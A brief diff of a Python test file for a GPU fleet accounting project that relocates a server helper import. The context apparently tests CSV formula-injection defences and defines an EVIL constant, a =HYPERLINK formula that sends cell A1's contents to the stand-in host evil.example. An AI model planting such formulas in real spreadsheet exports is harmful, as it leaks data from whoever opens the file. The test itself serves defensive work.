@@ -16,7 +16,7 @@ from gpufleet.api.app import create_app as create_api
 from gpufleet.auth import create_token
 from gpufleet.config import Settings
 from gpufleet.csvsafe import FORMULA_STARTS, safe_text
-from gpufleet.testing.servers import serve
+from gpufleet.serverthread import serve
 from tests.accounting.builders import constant_power, drain, gpu_samples, node, run, site
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
